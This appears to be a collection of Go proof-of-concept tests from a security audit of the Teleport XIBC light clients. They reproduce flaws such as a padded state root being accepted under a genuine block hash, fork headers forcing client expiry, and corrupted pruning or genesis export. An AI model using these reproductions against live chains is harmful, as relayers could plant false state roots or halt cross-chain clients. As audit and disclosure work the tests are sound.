// Finding 1 (C10): the "main root" index of the Ethereum client is keyed by (state root, block number) only.
// Two competing headers of the same number that carry the same state root share one entry, so RestrictChain
// resolves the consensus state of a height to the header of the OTHER branch, finds the fork point too early
// and leaves a consensus state of the abandoned branch on the new head's ancestry.
package types_test

import (
	"bytes"
	"fmt"
	"math/big"
	"testing"
	"time"

	"github.com/ethereum/go-ethereum/common"
	tmproto "github.com/tendermint/tendermint/proto/tendermint/types"

	"github.com/teleport-network/teleport/app"
	xibcethtypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/eth/types"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
	"github.com/teleport-network/teleport/x/xibc/exported"
)

func zzF1Header(parent *xibcethtypes.Header, number uint64, ts uint64, root byte, extra string) xibcethtypes.Header {
	h := xibcethtypes.EthHeader{
		Root:       common.BytesToHash(bytes.Repeat([]byte{root}, 32)),
		Difficulty: big.NewInt(2),
		Number:     new(big.Int).SetUint64(number),
		GasLimit:   30000000,
		GasUsed:    15000000, // exactly the target: the base fee stays unchanged
		Time:       ts,
		Extra:      []byte(extra),
		BaseFee:    big.NewInt(1000000000),
	}
	if parent != nil {
		h.ParentHash = parent.Hash()
	}
	return h.ToHeader()
}

func TestZZFinding1RootMainCollision(t *testing.T) {
	teleport := app.Setup(false, nil)
	now := time.Now()
	ctx := teleport.BaseApp.NewContext(false, tmproto.Header{Time: now})
	ck := teleport.XIBCKeeper.ClientKeeper
	const chain = "eth"
	base := uint64(now.Unix()) - 1000

	g := zzF1Header(nil, 100, base, 0x01, "G")
	m1 := zzF1Header(&g, 101, base+10, 0x11, "M1")
	m2 := zzF1Header(&m1, 102, base+20, 0xAA, "M2") // state root 0xAA..
	m3 := zzF1Header(&m2, 103, base+30, 0x13, "M3")
	s1 := zzF1Header(&g, 101, base+11, 0x21, "S1")
	s2 := zzF1Header(&s1, 102, base+21, 0xAA, "S2") // competing block 102 with the SAME state root as M2
	tt := zzF1Header(&s1, 102, base+22, 0x33, "T") // second child of S1

	clientState := exported.ClientState(&xibcethtypes.ClientState{
		Header: g, ChainId: 4 /* Rinkeby: no PoW needed for the replay */, ContractAddress: []byte("0x00"),
		TrustingPeriod: 99999999, BlockDelay: 1,
	})
	consensusState := exported.ConsensusState(&xibcethtypes.ConsensusState{Timestamp: g.Time, Height: g.Height, Root: g.Root})
	if err := ck.CreateClient(ctx, chain, clientState, consensusState); err != nil {
		t.Fatalf("create: %v", err)
	}
	steps := []struct {
		name string
		h    xibcethtypes.Header
	}{{"M1", m1}, {"M2", m2}, {"S1", s1}, {"S2", s2}, {"M3", m3}, {"T", tt}}
	for _, st := range steps {
		h := st.h
		if err := ck.UpdateClient(ctx, chain, &h); err != nil {
			fmt.Printf("REPLAY-NOT-REPRODUCED: header %s was rejected: %v\n", st.name, err)
			return
		}
	}
	cs, _ := ck.GetClientState(ctx, chain)
	head := cs.(*xibcethtypes.ClientState).Header
	if head.Hash() != tt.Hash() {
		fmt.Printf("REPLAY-NOT-REPRODUCED: head is not T\n")
		return
	}
	// the head is T (102); its ancestor at 101 is S1
	c101, ok := ck.GetClientConsensusState(ctx, chain, clienttypes.NewHeight(0, 101))
	if !ok {
		fmt.Printf("REPLAY-NOT-REPRODUCED: no consensus state at 101\n")
		return
	}
	if bytes.Equal(c101.GetRoot(), s1.Root) {
		fmt.Printf("REPLAY-NOT-REPRODUCED: consensus state 101 is the root of S1, the head's ancestor\n")
		return
	}
	fmt.Printf("REPLAY-CONFIRMED: head is T(102, parent S1) but the consensus state kept for height 101 has root %x = root of M1 (abandoned branch), not %x = root of the head's ancestor S1\n",
		c101.GetRoot()[:4], s1.Root[:4])
}
