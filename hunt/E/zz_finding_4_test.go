// Package directory: x/xibc/clients/light-clients/eth/types   (package types_test)
//
// Finding 4 (C10): pruning deletes the indexed header of the pruned (main chain) height, while headers of side branches
// are kept for ever. RestrictChain walks BOTH branches down to the fork point and needs the deleted main-chain headers:
// a rule-abiding child of a stored side-branch header is refused once a main-chain header above the fork point
// has been pruned.
package types_test

import (
	"bytes"
	"fmt"
	"math/big"
	"testing"
	"time"

	"github.com/ethereum/go-ethereum/common"
	tmproto "github.com/tendermint/tendermint/proto/tendermint/types"

	"github.com/teleport-network/teleport/app"
	xibcethtypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/eth/types"
	"github.com/teleport-network/teleport/x/xibc/exported"
)

func zzF4Header(parent *xibcethtypes.Header, number uint64, ts uint64, root byte, extra string) xibcethtypes.Header {
	h := xibcethtypes.EthHeader{
		Root:       common.BytesToHash(bytes.Repeat([]byte{root}, 32)),
		Difficulty: big.NewInt(2),
		Number:     new(big.Int).SetUint64(number),
		GasLimit:   30000000,
		GasUsed:    15000000,
		Time:       ts,
		Extra:      []byte(extra),
		BaseFee:    big.NewInt(1000000000),
	}
	if parent != nil {
		h.ParentHash = parent.Hash()
	}
	return h.ToHeader()
}

func TestZZFinding4PrunedAncestorRejectsStoredBranch(t *testing.T) {
	teleport := app.Setup(false, nil)
	t0 := time.Now().Add(-3 * time.Hour)
	T0 := uint64(t0.Unix())
	at := func(sec int64) time.Time { return t0.Add(time.Duration(sec) * time.Second) }
	ctx := teleport.BaseApp.NewContext(false, tmproto.Header{Time: at(20)})
	ck := teleport.XIBCKeeper.ClientKeeper
	const chain = "eth"

	g := zzF4Header(nil, 100, T0, 0x01, "G")
	m1 := zzF4Header(&g, 101, T0+10, 0x11, "M1")
	s1 := zzF4Header(&g, 101, T0+11, 0x21, "S1")
	m2 := zzF4Header(&m1, 102, T0+900, 0x12, "M2")
	m3 := zzF4Header(&m2, 103, T0+1800, 0x13, "M3")
	m4 := zzF4Header(&m3, 104, T0+1801, 0x14, "M4")
	s2 := zzF4Header(&s1, 102, T0+1802, 0x22, "S2")

	clientState := exported.ClientState(&xibcethtypes.ClientState{
		Header: g, ChainId: 4, ContractAddress: []byte("0x00"), TrustingPeriod: 1000, BlockDelay: 1,
	})
	consensusState := exported.ConsensusState(&xibcethtypes.ConsensusState{Timestamp: g.Time, Height: g.Height, Root: g.Root})
	if err := ck.CreateClient(ctx, chain, clientState, consensusState); err != nil {
		t.Fatalf("create: %v", err)
	}
	steps := []struct {
		name string
		h    xibcethtypes.Header
		sec  int64
	}{{"M1", m1, 20}, {"S1", s1, 20}, {"M2", m2, 900}, {"M3", m3, 1800}, {"M4", m4, 1801}}
	for _, st := range steps {
		h := st.h
		if err := ck.UpdateClient(ctx.WithBlockTime(at(st.sec)), chain, &h); err != nil {
			fmt.Printf("REPLAY-NOT-REPRODUCED: header %s was rejected: %v\n", st.name, err)
			return
		}
	}
	store := ck.ClientStore(ctx, chain)
	s1Stored := store.Has(xibcethtypes.EthHeaderIndexKey(s1.Hash(), 101))
	err := ck.UpdateClient(ctx.WithBlockTime(at(1802)), chain, &s2)
	if err == nil {
		fmt.Printf("REPLAY-NOT-REPRODUCED: the child of the stored header S1 is accepted\n")
		return
	}
	fmt.Printf("REPLAY-CONFIRMED: S1 stored=%v, yet its rule-abiding child S2 is refused: %v\n", s1Stored, err)
}
