// package directory: x/xibc/clients/light-clients/eth/types   (package types_test)
package types_test

import (
	"bytes"
	"fmt"
	"math/big"
	"testing"
	"time"

	ethtypes "github.com/ethereum/go-ethereum/core/types"
	tmproto "github.com/tendermint/tendermint/proto/tendermint/types"

	"github.com/teleport-network/teleport/app"
	xibcethtypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/eth/types"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
	"github.com/teleport-network/teleport/x/xibc/exported"
)

func f2Child(p xibcethtypes.Header, time uint64, rootByte byte) xibcethtypes.Header {
	return xibcethtypes.Header{
		ParentHash:  p.Hash().Bytes(),
		UncleHash:   ethtypes.EmptyUncleHash.Bytes(),
		Coinbase:    make([]byte, 20),
		Root:        bytes.Repeat([]byte{rootByte}, 32),
		TxHash:      make([]byte, 32),
		ReceiptHash: make([]byte, 32),
		Bloom:       make([]byte, 256),
		Difficulty:  big.NewInt(2).Bytes(),
		Height:      clienttypes.NewHeight(0, p.Height.RevisionHeight+1),
		GasLimit:    p.GasLimit,
		GasUsed:     p.GasLimit / 2,
		Time:        time,
		Extra:       []byte{},
		MixDigest:   make([]byte, 32),
		BaseFee:     xibcethtypes.CalcBaseFee(&p).Bytes(),
	}
}

// CreateClient / UpgradeClient (and the proposals in front of them) take the initial consensus state of an ETH
// client as it comes: its root is never compared with the state root of the client state's header
// (ConsensusState.ValidateBasic is an empty stub). The consensus state stored for the anchor height is then not
// the anchor's state root, and when that record becomes the oldest expired one the pruning step cannot find its
// header (the root index is keyed by the header's real root) and fails - on every later update.
func TestZZFinding2AnchorConsensusRootNotHeaderRoot(t *testing.T) {
	const chain = "eth"
	const tp = uint64(100)
	tapp := app.Setup(false, nil)
	T := time.Unix(time.Now().Unix(), 0)
	ctx := tapp.BaseApp.NewContext(false, tmproto.Header{Time: T})
	t0 := uint64(T.Unix())

	a0 := xibcethtypes.Header{
		ParentHash: make([]byte, 32), UncleHash: ethtypes.EmptyUncleHash.Bytes(), Coinbase: make([]byte, 20),
		Root: bytes.Repeat([]byte{0xa0}, 32), TxHash: make([]byte, 32), ReceiptHash: make([]byte, 32),
		Bloom: make([]byte, 256), Difficulty: big.NewInt(2).Bytes(), Height: clienttypes.NewHeight(0, 100),
		GasLimit: 8000000, GasUsed: 4000000, Time: t0 - 50, Extra: []byte{}, MixDigest: make([]byte, 32),
		BaseFee: big.NewInt(1000000000).Bytes(),
	}
	clientState := &xibcethtypes.ClientState{
		Header: a0, ChainId: 4, ContractAddress: []byte("0x00"), TrustingPeriod: tp, BlockDelay: 1,
	}
	// the consensus state carries the state root of some other block (e.g. the receipts root was pasted, or the
	// block one below was used): everything else is right
	wrongRoot := bytes.Repeat([]byte{0x77}, 32)
	consensusState := &xibcethtypes.ConsensusState{Timestamp: a0.Time, Height: a0.Height, Root: wrongRoot}

	// the proposal's own validation
	proposal, err := clienttypes.NewCreateClientProposal("t", "d", chain, clientState, consensusState)
	if err != nil {
		t.Fatal(err)
	}
	if err := proposal.ValidateBasic(); err != nil {
		fmt.Printf("REPLAY-NOT-REPRODUCED: the proposal is refused by its own validation: %v\n", err)
		return
	}
	k := tapp.XIBCKeeper.ClientKeeper
	if err := k.CreateClient(ctx, chain, exported.ClientState(clientState), exported.ConsensusState(consensusState)); err != nil {
		fmt.Printf("REPLAY-NOT-REPRODUCED: CreateClient refuses the consensus state: %v\n", err)
		return
	}
	kept, _ := k.GetClientConsensusState(ctx, chain, a0.Height)
	mismatch := !bytes.Equal(kept.GetRoot(), a0.Root)

	a1 := f2Child(a0, t0-40, 0xa1)
	a2 := f2Child(a1, t0-30, 0xa2)
	for _, h := range []xibcethtypes.Header{a1, a2} {
		h := h
		if err := k.UpdateClient(ctx, chain, &h); err != nil {
			t.Fatal(err)
		}
	}
	// block time T+55: the anchor record (T-50) has left the trusting period, the head A2 (T-30) has not
	var failures []string
	prev := a2
	for i, dt := range []int{55, 60, 65} {
		c := ctx.WithBlockTime(T.Add(time.Duration(dt) * time.Second))
		cs, _ := k.GetClientState(c, chain)
		if st := cs.Status(c, k.ClientStore(c, chain), tapp.AppCodec()); st != exported.Active {
			t.Fatalf("client not active: %s", st)
		}
		cc, write := c.CacheContext()
		h := f2Child(prev, uint64(T.Unix())+uint64(dt)-1, byte(0xb0+i))
		if err := k.UpdateClient(cc, chain, &h); err != nil {
			failures = append(failures, fmt.Sprintf("T+%d: %v", dt, err))
			continue
		}
		write()
		prev = h
	}
	if mismatch && len(failures) == 3 {
		fmt.Printf("REPLAY-CONFIRMED: create-client proposal with a consensus state whose root (%x..) is not the header's state root (%x..) passes ValidateBasic and CreateClient; "+
			"the record kept for the anchor height is not the anchor's state root, and once it has left the trusting period every update of the Active client fails in the pruning step: %s\n",
			wrongRoot[:2], a0.Root[:2], failures[0])
		return
	}
	fmt.Printf("REPLAY-NOT-REPRODUCED: mismatch=%v failures=%v\n", mismatch, failures)
}
