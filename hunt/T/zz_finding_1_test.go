// package directory: x/xibc/clients/light-clients/eth/types   (package types_test)
package types_test

import (
	"bytes"
	"fmt"
	"math/big"
	"testing"
	"time"

	ethtypes "github.com/ethereum/go-ethereum/core/types"
	tmproto "github.com/tendermint/tendermint/proto/tendermint/types"

	"github.com/teleport-network/teleport/app"
	xibcethtypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/eth/types"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
	"github.com/teleport-network/teleport/x/xibc/exported"
)

// f1Child builds a header that satisfies every parent-relative rule (time, gas limit, base fee); the
// client below is a Rinkeby one (chain id 4), so that no ethash seal has to be mined for the replay.
func f1Child(p xibcethtypes.Header, time uint64, rootByte byte) xibcethtypes.Header {
	return xibcethtypes.Header{
		ParentHash:  p.Hash().Bytes(),
		UncleHash:   ethtypes.EmptyUncleHash.Bytes(),
		Coinbase:    make([]byte, 20),
		Root:        bytes.Repeat([]byte{rootByte}, 32),
		TxHash:      make([]byte, 32),
		ReceiptHash: make([]byte, 32),
		Bloom:       make([]byte, 256),
		Difficulty:  big.NewInt(2).Bytes(),
		Height:      clienttypes.NewHeight(0, p.Height.RevisionHeight+1),
		GasLimit:    p.GasLimit,
		GasUsed:     p.GasLimit / 2,
		Time:        time,
		Extra:       []byte{},
		MixDigest:   make([]byte, 32),
		BaseFee:     xibcethtypes.CalcBaseFee(&p).Bytes(),
	}
}

// A side-branch header that is still inside the trusting period, but older than the head, is accepted and
// becomes the head; the client's expiry is judged by the head's timestamp, so the client expires as soon as
// that older header leaves the trusting period - although fresher headers are stored - and from then on
// every update is refused, including the valid child of the previous (fresh) head.
func TestZZFinding1ForkHeaderRegressesHeadIntoExpiry(t *testing.T) {
	const chain = "eth"
	const tp = uint64(100)
	tapp := app.Setup(false, nil)
	T := time.Unix(time.Now().Unix(), 0)
	ctx := tapp.BaseApp.NewContext(false, tmproto.Header{Time: T})
	t0 := uint64(T.Unix())

	a0 := xibcethtypes.Header{
		ParentHash: make([]byte, 32), UncleHash: ethtypes.EmptyUncleHash.Bytes(), Coinbase: make([]byte, 20),
		Root: bytes.Repeat([]byte{0xa0}, 32), TxHash: make([]byte, 32), ReceiptHash: make([]byte, 32),
		Bloom: make([]byte, 256), Difficulty: big.NewInt(2).Bytes(), Height: clienttypes.NewHeight(0, 100),
		GasLimit: 8000000, GasUsed: 4000000, Time: t0 - 50, Extra: []byte{}, MixDigest: make([]byte, 32),
		BaseFee: big.NewInt(1000000000).Bytes(),
	}
	clientState := exported.ClientState(&xibcethtypes.ClientState{
		Header: a0, ChainId: 4, ContractAddress: []byte("0x00"), TrustingPeriod: tp, BlockDelay: 1,
	})
	consensusState := exported.ConsensusState(&xibcethtypes.ConsensusState{Timestamp: a0.Time, Height: a0.Height, Root: a0.Root})
	k := tapp.XIBCKeeper.ClientKeeper
	if err := k.CreateClient(ctx, chain, clientState, consensusState); err != nil {
		t.Fatal(err)
	}
	// main chain A0 (T-50) <- A1 (T-40) <- A2 (T-30), all submitted at block time T
	a1 := f1Child(a0, t0-40, 0xa1)
	a2 := f1Child(a1, t0-30, 0xa2)
	for _, h := range []xibcethtypes.Header{a1, a2} {
		h := h
		if err := k.UpdateClient(ctx, chain, &h); err != nil {
			t.Fatal(err)
		}
	}
	// competing header F: a child of the stored header A1, one second younger than A1
	f := f1Child(a1, t0-39, 0xf1)
	// A3: a valid child of the head A2, produced later
	a3 := f1Child(a2, t0+60, 0xa3)

	// block time T+61: F.Time + trusting period == block time, so F is not "older than the trusting period"
	ctx61 := ctx.WithBlockTime(T.Add(61 * time.Second))
	ctx62 := ctx.WithBlockTime(T.Add(62 * time.Second))

	// control: without F, A3 is accepted at block time T+62
	{
		cctx, _ := ctx62.CacheContext()
		h := a3
		if err := k.UpdateClient(cctx, chain, &h); err != nil {
			fmt.Printf("REPLAY-NOT-REPRODUCED: control failed, A3 is refused even without the fork header: %v\n", err)
			return
		}
	}

	cctx, write := ctx61.CacheContext()
	hf := f
	if err := k.UpdateClient(cctx, chain, &hf); err != nil {
		fmt.Printf("REPLAY-NOT-REPRODUCED: the older side-branch header is refused: %v\n", err)
		return
	}
	write()
	cs, _ := k.GetClientState(ctx61, chain)
	statusAt61 := cs.Status(ctx61, k.ClientStore(ctx61, chain), tapp.AppCodec())
	statusAt62 := cs.Status(ctx62, k.ClientStore(ctx62, chain), tapp.AppCodec())

	cctx2, _ := ctx62.CacheContext()
	h3 := a3
	err := k.UpdateClient(cctx2, chain, &h3)
	if err != nil && statusAt62 == exported.Expired {
		fmt.Printf("REPLAY-CONFIRMED: side-branch header F (height %d, time T-39) accepted at block time T+61 became the head (head now %s, status %s); "+
			"one second later the client is %s although the stored header A2 (time T-30) is inside the trusting period, and the valid child A3 of A2 - accepted at T+62 without F - is refused: %v\n",
			f.Height.RevisionHeight, cs.GetLatestHeight(), statusAt61, statusAt62, err)
		return
	}
	fmt.Printf("REPLAY-NOT-REPRODUCED: after the fork header the child of the fresh header is still accepted (status %s, err %v)\n", statusAt62, err)
}
