// package directory: x/xibc/clients/light-clients/eth/types   (package types_test)
package types_test

import (
	"bytes"
	"fmt"
	"math/big"
	"testing"
	"time"

	ethtypes "github.com/ethereum/go-ethereum/core/types"
	tmproto "github.com/tendermint/tendermint/proto/tendermint/types"

	"github.com/teleport-network/teleport/app"
	xibcethtypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/eth/types"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
	"github.com/teleport-network/teleport/x/xibc/exported"
)

// The block hash (and with it the parent link and the ethash seal) is computed from the header after
// common.BytesToHash has cropped every hash field to its last 32 bytes, but the consensus state is filled from
// the raw field: a relayer that submits a genuine block with bytes prepended to Root gets the block accepted under
// its genuine hash, and the consensus state kept for that height is not the block's state root.
func TestZZFinding3PaddedRootStoredVerbatim(t *testing.T) {
	const chain = "eth"
	tapp := app.Setup(false, nil)
	T := time.Unix(time.Now().Unix(), 0)
	ctx := tapp.BaseApp.NewContext(false, tmproto.Header{Time: T})
	t0 := uint64(T.Unix())

	a0 := xibcethtypes.Header{
		ParentHash: make([]byte, 32), UncleHash: ethtypes.EmptyUncleHash.Bytes(), Coinbase: make([]byte, 20),
		Root: bytes.Repeat([]byte{0xa0}, 32), TxHash: make([]byte, 32), ReceiptHash: make([]byte, 32),
		Bloom: make([]byte, 256), Difficulty: big.NewInt(2).Bytes(), Height: clienttypes.NewHeight(0, 100),
		GasLimit: 8000000, GasUsed: 4000000, Time: t0 - 50, Extra: []byte{}, MixDigest: make([]byte, 32),
		BaseFee: big.NewInt(1000000000).Bytes(),
	}
	clientState := exported.ClientState(&xibcethtypes.ClientState{
		Header: a0, ChainId: 4, ContractAddress: []byte("0x00"), TrustingPeriod: 100000, BlockDelay: 1,
	})
	consensusState := exported.ConsensusState(&xibcethtypes.ConsensusState{Timestamp: a0.Time, Height: a0.Height, Root: a0.Root})
	k := tapp.XIBCKeeper.ClientKeeper
	if err := k.CreateClient(ctx, chain, clientState, consensusState); err != nil {
		t.Fatal(err)
	}
	realRoot := bytes.Repeat([]byte{0xa1}, 32)
	genuine := xibcethtypes.Header{
		ParentHash: a0.Hash().Bytes(), UncleHash: ethtypes.EmptyUncleHash.Bytes(), Coinbase: make([]byte, 20),
		Root: realRoot, TxHash: make([]byte, 32), ReceiptHash: make([]byte, 32),
		Bloom: make([]byte, 256), Difficulty: big.NewInt(2).Bytes(), Height: clienttypes.NewHeight(0, 101),
		GasLimit: 8000000, GasUsed: 4000000, Time: t0 - 40, Extra: []byte{}, MixDigest: make([]byte, 32),
		BaseFee: xibcethtypes.CalcBaseFee(&a0).Bytes(),
	}
	padded := genuine
	padded.Root = append([]byte{0xde, 0xad, 0xbe, 0xef}, realRoot...)
	sameHash := padded.Hash() == genuine.Hash()

	if err := k.UpdateClient(ctx, chain, &padded); err != nil {
		fmt.Printf("REPLAY-NOT-REPRODUCED: header with a padded state root refused: %v\n", err)
		return
	}
	kept, _ := k.GetClientConsensusState(ctx, chain, padded.Height)
	if sameHash && !bytes.Equal(kept.GetRoot(), realRoot) {
		fmt.Printf("REPLAY-CONFIRMED: header with a 36-byte Root accepted under the genuine block's hash %s; consensus state kept for height %s has root %x (len %d), the block's state root is %x\n",
			genuine.Hash(), padded.Height, kept.GetRoot(), len(kept.GetRoot()), realRoot)
		return
	}
	fmt.Printf("REPLAY-NOT-REPRODUCED: sameHash=%v kept root %x\n", sameHash, kept.GetRoot())
}
