// Package directory: x/xibc   (package xibc_test)
//
// Finding 3 (C13): after a governance ToggleClient (or UpgradeClient) to a TSS client the
// exported XIBC genesis does not pass the module's own genesis validation.
// CreateClient deliberately stores no consensus state for a TSS client (its latest height
// is the zero height 0-0), but ToggleClient and UpgradeClient store the proposal's
// consensus state unconditionally at GetLatestHeight() = 0-0.  ExportGenesis then lists a
// consensus state at height 0-0 and GenesisState.Validate rejects it with
// "consensus state height cannot be zero".
//
// run: go test ./x/xibc/ -run TestZZFinding3 -count=1 -v
package xibc_test

import (
	"fmt"
	"testing"

	govtypes "github.com/cosmos/cosmos-sdk/x/gov/types"

	xibc "github.com/teleport-network/teleport/x/xibc"
	xibctsstypes "github.com/teleport-network/teleport/x/xibc/clients/tss-client/types"
	xibcclient "github.com/teleport-network/teleport/x/xibc/core/client"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
	xibctesting "github.com/teleport-network/teleport/x/xibc/testing"
	"github.com/teleport-network/teleport/x/xibc/types"
)

func TestZZFinding3(t *testing.T) {
	coord := xibctesting.NewCoordinator(t, 2)
	chainA := coord.GetChain(xibctesting.GetChainID(0))
	chainB := coord.GetChain(xibctesting.GetChainID(1))
	path := xibctesting.NewPath(chainA, chainB)
	coord.SetupClients(path) // chain A keeps a tendermint client of chain B
	name := path.EndpointB.ChainName

	k := chainA.App.XIBCKeeper
	handler := xibcclient.NewClientProposalHandler(k.ClientKeeper)
	ctx := chainA.GetContext()
	run := func(c govtypes.Content) error {
		if err := c.ValidateBasic(); err != nil {
			return fmt.Errorf("ValidateBasic: %w", err)
		}
		cacheCtx, write := ctx.CacheContext()
		err := handler(cacheCtx, c)
		if err == nil {
			write()
		}
		return err
	}
	validateExport := func() error {
		gs := xibc.ExportGenesis(ctx, *k)
		bz := chainA.App.AppCodec().MustMarshalJSON(gs)
		var gs2 types.GenesisState
		chainA.App.AppCodec().MustUnmarshalJSON(bz, &gs2)
		return gs2.Validate()
	}

	if err := validateExport(); err != nil {
		fmt.Printf("REPLAY-NOT-REPRODUCED: export invalid already before the governance action: %v\n", err)
		return
	}

	tss := &xibctsstypes.ClientState{TssAddress: chainA.SenderAcc.String(), Pubkey: []byte{1, 2, 3}, PartPubkeys: [][]byte{{4}}, Threshold: 1}

	// (a) governance toggles the tendermint client of chain B to a TSS client
	toggle, err := clienttypes.NewToggleClientProposal("t", "d", name, tss, &xibctsstypes.ConsensusState{})
	if err != nil {
		fmt.Printf("REPLAY-NOT-REPRODUCED: cannot build proposal: %v\n", err)
		return
	}
	errToggle := run(toggle)
	errValToggle := validateExport()

	// (b) independent variant: a TSS client created by governance (export valid), then upgraded
	tssName := "tss-chain"
	create, _ := clienttypes.NewCreateClientProposal("t", "d", tssName, tss, &xibctsstypes.ConsensusState{})
	errCreate := run(create)
	// look only at this client: drop the toggled one from the picture by checking the heights exported for tssName
	zeroFor := func(chain string) int {
		n := 0
		for _, cc := range k.ClientKeeper.GetAllConsensusStates(ctx) {
			if cc.ChainName != chain {
				continue
			}
			for _, cs := range cc.ConsensusStates {
				if cs.Height.IsZero() {
					n++
				}
			}
		}
		return n
	}
	zeroAfterCreate := zeroFor(tssName)
	tss2 := &xibctsstypes.ClientState{TssAddress: chainA.SenderAcc.String(), Pubkey: []byte{9}, PartPubkeys: [][]byte{{8}}, Threshold: 2}
	upgrade, _ := clienttypes.NewUpgradeClientProposal("t", "d", tssName, tss2, &xibctsstypes.ConsensusState{})
	errUpgrade := run(upgrade)
	zeroAfterUpgrade := zeroFor(tssName)

	if errToggle == nil && errValToggle == nil && zeroAfterUpgrade == 0 {
		fmt.Printf("REPLAY-NOT-REPRODUCED: export still passes genesis validation after toggling / upgrading to a TSS client\n")
		return
	}
	fmt.Printf("REPLAY-CONFIRMED: ToggleClient(%s -> TSS) err=%v; exported genesis now fails the module's own validation: %q (zero-height consensus states exported for %s: %d); variant CreateClient(TSS) err=%v leaves %d zero-height consensus states, UpgradeClient(TSS) err=%v leaves %d\n",
		name, errToggle, fmt.Sprint(errValToggle), name, zeroFor(name), errCreate, zeroAfterCreate, errUpgrade, zeroAfterUpgrade)
}
