// Package directory: x/xibc   (package xibc_test)
//
// Finding 2 (C13): the Tendermint light client's ExportMetadata exports only the
// "consensusStates/<height>/processedTime" records; the iteration keys
// ("iterateConsensusStates<height>") written next to them by setConsensusMetadata are
// not part of the exported genesis, and InitGenesis does not rebuild them.  After an
// export / import round trip the client metadata differs, and the pruning of expired
// consensus states (which walks the iteration keys) no longer sees any consensus state
// that existed before the export.
//
// run: go test ./x/xibc/ -run TestZZFinding2 -count=1 -v
package xibc_test

import (
	"fmt"
	"strings"
	"testing"
	"time"

	sdk "github.com/cosmos/cosmos-sdk/types"

	xibc "github.com/teleport-network/teleport/x/xibc"
	xibctmtypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/tendermint/types"
	"github.com/teleport-network/teleport/x/xibc/core/host"
	"github.com/teleport-network/teleport/x/xibc/exported"
	xibctesting "github.com/teleport-network/teleport/x/xibc/testing"
	"github.com/teleport-network/teleport/x/xibc/types"
)

func TestZZFinding2(t *testing.T) {
	coord := xibctesting.NewCoordinator(t, 2)
	chainA := coord.GetChain(xibctesting.GetChainID(0))
	chainB := coord.GetChain(xibctesting.GetChainID(1))
	path := xibctesting.NewPath(chainA, chainB)
	coord.SetupClients(path)
	name := path.EndpointB.ChainName // the client kept on chain A

	// ordinary history: a few client updates, then almost one trusting period passes,
	// one more update, and a little more time: the old consensus states are now expired,
	// the newest one is not (the client is still active)
	for i := 0; i < 3; i++ {
		if err := path.EndpointA.UpdateClient(); err != nil {
			fmt.Printf("REPLAY-NOT-REPRODUCED: setup update failed: %v\n", err)
			return
		}
	}
	coord.IncrementTimeBy(xibctesting.TrustingPeriod - time.Minute)
	if err := path.EndpointA.UpdateClient(); err != nil {
		fmt.Printf("REPLAY-NOT-REPRODUCED: setup update failed: %v\n", err)
		return
	}
	coord.IncrementTimeBy(2 * time.Minute)
	coord.CommitBlock(chainB)
	header, err := chainA.ConstructUpdateTMClientHeader(chainB, name)
	if err != nil {
		fmt.Printf("REPLAY-NOT-REPRODUCED: cannot build header: %v\n", err)
		return
	}
	coord.UpdateTimeForChain(chainA)

	key := chainA.App.GetKey(host.StoreKey)
	k := chainA.App.XIBCKeeper
	dump := func(ctx sdk.Context) map[string]string {
		out := map[string]string{}
		it := ctx.KVStore(key).Iterator(nil, nil)
		defer it.Close()
		for ; it.Valid(); it.Next() {
			out[string(it.Key())] = string(it.Value())
		}
		return out
	}
	iterHeights := func(ctx sdk.Context) int {
		n := 0
		xibctmtypes.IterateConsensusStateAscending(k.ClientKeeper.ClientStore(ctx, name), func(exported.Height) bool { n++; return false })
		return n
	}
	consStates := func(ctx sdk.Context) int {
		n := 0
		for _, c := range k.ClientKeeper.GetAllConsensusStates(ctx) {
			if c.ChainName == name {
				n += len(c.ConsensusStates)
			}
		}
		return n
	}

	// branch 1: the original state; branch 2: the state after export -> (JSON) -> import
	ctxOrig, _ := chainA.GetContext().CacheContext()
	ctxImp, _ := chainA.GetContext().CacheContext()

	before := dump(ctxImp)
	gs := xibc.ExportGenesis(ctxImp, *k)
	bz := chainA.App.AppCodec().MustMarshalJSON(gs)
	var gs2 types.GenesisState
	chainA.App.AppCodec().MustUnmarshalJSON(bz, &gs2)
	valErr := gs2.Validate()
	st := ctxImp.KVStore(key)
	for kk := range before {
		st.Delete([]byte(kk))
	}
	xibc.InitGenesis(ctxImp, *k, false, &gs2)
	after := dump(ctxImp)

	var missing []string
	for kk, v := range before {
		if w, ok := after[kk]; !ok || w != v {
			missing = append(missing, kk)
		}
	}
	itOrig, itImp := iterHeights(ctxOrig), iterHeights(ctxImp)
	csOrig0, csImp0 := consStates(ctxOrig), consStates(ctxImp)

	// the same header is applied to both branches
	errOrig := k.ClientKeeper.UpdateClient(ctxOrig, name, header)
	errImp := k.ClientKeeper.UpdateClient(ctxImp, name, header)
	csOrig1, csImp1 := consStates(ctxOrig), consStates(ctxImp)

	onlyIter := true
	for _, m := range missing {
		if !strings.Contains(m, xibctmtypes.KeyIterateConsensusStatePrefix) {
			onlyIter = false
		}
	}
	if len(missing) == 0 && itOrig == itImp && csOrig1 == csImp1 {
		fmt.Printf("REPLAY-NOT-REPRODUCED: xibc store identical after export/import (%d keys), %d iteration heights on both sides, same pruning\n", len(before), itOrig)
		return
	}
	fmt.Printf("REPLAY-CONFIRMED: genesis validate=%v; %d of %d xibc store records are lost by export/import (all of them tendermint iteration keys: %v); ordered consensus heights seen by the pruning walk: %d before, %d after import; applying the same header: original state %d->%d consensus states (err=%v, expired one pruned), imported state %d->%d (err=%v, nothing pruned)\n",
		valErr, len(missing), len(before), onlyIter, itOrig, itImp, csOrig0, csOrig1, errOrig, csImp0, csImp1, errImp)
}
