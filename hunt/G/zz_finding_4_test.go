// Package directory: x/aggregate/keeper   (package keeper_test)
//
// Finding 4 (C12): RegisterCoin and AddCoin test "is this denomination already
// registered" with coinMetadata.Name, but the registry is keyed by coinMetadata.Base.
// Whenever Name != Base the guard is vacuous.  The only other obstacle is verifyMetadata,
// which (by comparing *DenomUnit pointers) rejects every coin that already has bank
